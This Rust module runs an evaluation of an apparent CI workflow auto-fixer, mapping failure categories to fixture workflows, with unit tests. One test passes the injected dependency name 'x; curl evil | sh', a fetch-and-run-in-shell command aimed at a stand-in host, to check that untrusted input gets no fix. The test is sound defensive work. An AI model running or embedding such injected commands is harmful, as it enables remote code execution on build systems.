//! Support for `cargo xtask eval fixes`: each fixable category has a
//! realistic workflow written for this project (`tests/fixtures/eval/`),
//! and [`eval_case`] says whether a diagnosed failure of that category
//! produces a verified fix on it. Job and step names from a real log name
//! jobs of some other workflow, so the fixture's own job that plays the
//! failing role is used instead.

use autoheal_engine::repo::MemoryRepo;
use serde::Serialize;

use crate::{Category, FailureInput, RateLimitKind, fixes_for};

/// What the diagnosis extracted from the log besides category and subject.
#[derive(Clone, Debug, Default)]
pub struct EvalInfo {
    /// The limit from a timeout annotation ("… 30 minutes").
    pub timeout_minutes: Option<u32>,
    pub rate_limit: Option<RateLimitKind>,
    /// "Invalid workflow file … line N".
    pub line: Option<u32>,
    pub column: Option<u32>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct EvalResult {
    /// The fixture used, relative to the crate.
    pub fixture: String,
    /// A verified fix was produced.
    pub fixed: bool,
    pub titles: Vec<String>,
    pub manual_reason: Option<String>,
}

pub const FIXTURE_DIR: &str = "tests/fixtures/eval";

/// The workflow written for `category`, if it is fixable.
pub fn fixture(category: Category) -> Option<&'static str> {
    Some(match category {
        Category::MissingDependency => include_str!("../tests/fixtures/eval/missing_dependency.yml"),
        Category::Timeout => include_str!("../tests/fixtures/eval/timeout.yml"),
        Category::MissingCommand => include_str!("../tests/fixtures/eval/missing_command.yml"),
        Category::FileNotFound => include_str!("../tests/fixtures/eval/file_not_found.yml"),
        Category::YamlSyntax => include_str!("../tests/fixtures/eval/yaml_syntax.yml"),
        Category::OptionalJob => include_str!("../tests/fixtures/eval/optional_job.yml"),
        Category::RateLimit => include_str!("../tests/fixtures/eval/rate_limit.yml"),
        Category::Unknown => return None,
    })
}

/// The rest of the fixture repository (files the workflows refer to).
fn fixture_repo(category: Category) -> MemoryRepo {
    let files: &[(&str, &str)] = match category {
        Category::MissingDependency => &[("requirements.txt", "requests>=2.31\nrich\n"), ("app/__init__.py", "")],
        Category::FileNotFound => &[
            ("web/package.json", "{\"name\": \"web\"}\n"),
            ("web/package-lock.json", "{}\n"),
            ("backend/requirements.txt", "flask\n"),
            ("bin/maintainer/citest.sh", "#!/bin/sh\nmake check\n"),
            ("src/app.py", "print('hi')\n"),
        ],
        _ => &[],
    };
    MemoryRepo::new(files.iter().map(|(p, t)| (p.to_string(), t.to_string())))
}

/// Which job of the fixture fails, given the subject.
fn fixture_job(category: Category, subject: Option<&str>) -> Option<&'static str> {
    let s = subject.unwrap_or("").to_ascii_lowercase();
    match category {
        Category::OptionalJob if s.contains("self-hosted") || s.contains("lost communication") => Some("arm-image"),
        Category::OptionalJob if s.contains("aarch64") || s.contains("arm") => Some("Wheels (ubuntu-24.04-arm)"),
        Category::OptionalJob => Some("arm-image"),
        _ => None,
    }
}

/// Move the fixture's syntax error down to the line GitHub reported, by
/// a longer header comment, so the message's position is what is used.
fn place_syntax_error(source: &str, line: Option<u32>) -> String {
    const ERROR_LINE: u32 = 7;
    let pad = line.map_or(0, |l| l.saturating_sub(ERROR_LINE)) as usize;
    let mut out = String::with_capacity(source.len() + pad * 40);
    for i in 0..pad {
        out.push_str(if i == 0 { "# Weekly dependency update.\n" } else { "#\n" });
    }
    out.push_str(source);
    out
}

/// Does a failure of `category` with `subject` get a verified fix on the
/// fixture written for it?
pub fn eval_case(category: &str, subject: Option<&str>, info: &EvalInfo) -> EvalResult {
    let Some(cat) = Category::parse(category) else {
        return EvalResult {
            fixture: String::new(),
            fixed: false,
            titles: Vec::new(),
            manual_reason: Some(format!("unknown category {category}")),
        };
    };
    let Some(source) = fixture(cat) else {
        return EvalResult {
            fixture: String::new(),
            fixed: false,
            titles: Vec::new(),
            manual_reason: Some("not a fixable category".into()),
        };
    };
    let mut failure = FailureInput::new(cat, subject);
    failure.job = fixture_job(cat, subject).map(str::to_string);
    failure.timeout_minutes = info.timeout_minutes.or_else(|| {
        (cat == Category::Timeout)
            .then(|| subject.and_then(|s| s.trim().parse().ok()))
            .flatten()
    });
    failure.rate_limit = info.rate_limit;
    let mut line = info.line;
    if cat == Category::YamlSyntax && line.is_none() {
        line = subject.and_then(|s| s.trim().parse().ok());
    }
    failure.line = line;
    failure.column = info.column;
    let source = if cat == Category::YamlSyntax {
        place_syntax_error(source, line)
    } else {
        source.to_string()
    };
    let path = format!(".github/workflows/{}.yml", cat.as_str());
    let outcome = fixes_for(&failure, &path, &source, &fixture_repo(cat));
    EvalResult {
        fixture: format!("{FIXTURE_DIR}/{}.yml", cat.as_str()),
        fixed: !outcome.fixes.is_empty(),
        titles: outcome.fixes.iter().map(|f| f.title.clone()).collect(),
        manual_reason: outcome.manual_reason,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fixed(category: &str, subject: Option<&str>) -> EvalResult {
        eval_case(category, subject, &EvalInfo::default())
    }

    #[test]
    fn every_fixture_parses_and_lints_without_errors() {
        for cat in Category::ALL.into_iter().filter(|c| *c != Category::YamlSyntax) {
            let Some(src) = fixture(cat) else { continue };
            let config = autoheal_engine::Config::default();
            let diags = autoheal_engine::lint(
                ".github/workflows/x.yml",
                src.as_bytes(),
                &autoheal_engine::LintOptions::new(&config),
            );
            let errors: Vec<_> = diags
                .iter()
                .filter(|d| d.severity == autoheal_engine::Severity::Error)
                .collect();
            assert!(errors.is_empty(), "{cat:?}: {errors:?}");
        }
    }

    #[test]
    fn each_fixable_category_fixes_its_fixture() {
        let cases: &[(&str, Option<&str>)] = &[
            ("missing_dependency", Some("pytest-cov")),
            ("missing_dependency", Some("pkg_resources (setuptools)")),
            ("timeout", Some("10")),
            ("timeout", None),
            ("missing_command", Some("git")),
            ("missing_command", Some("docker-compose")),
            ("missing_command", Some("yarn")),
            ("missing_command", Some("poetry")),
            ("file_not_found", Some("src/dist/windows")),
            ("file_not_found", Some("/home/runner/work/sme/sme/package.json")),
            ("file_not_found", Some("requirements.txt")),
            ("yaml_syntax", Some("7")),
            ("yaml_syntax", Some("21")),
            (
                "optional_job",
                Some("exec format error (aarch64 wheel build without QEMU)"),
            ),
            ("optional_job", Some("self-hosted runner lost communication")),
            ("rate_limit", Some("Docker Hub pull rate limit (429)")),
            ("rate_limit", Some("GitHub REST API (installation token)")),
        ];
        for (cat, subject) in cases {
            let r = fixed(cat, *subject);
            assert!(r.fixed, "{cat} {subject:?}: {:?}", r.manual_reason);
        }
    }

    #[test]
    fn policy_and_untrusted_cases_get_no_fix() {
        assert!(!fixed("timeout", Some("360")).fixed);
        assert!(!fixed("unknown", None).fixed);
        assert!(
            !fixed(
                "file_not_found",
                Some("/home/runner/work/_actions/aquaproj/aqua-installer/v2.1.1/aqua-installer")
            )
            .fixed
        );
        assert!(!fixed("missing_dependency", Some("x; curl evil | sh")).fixed);
    }
}
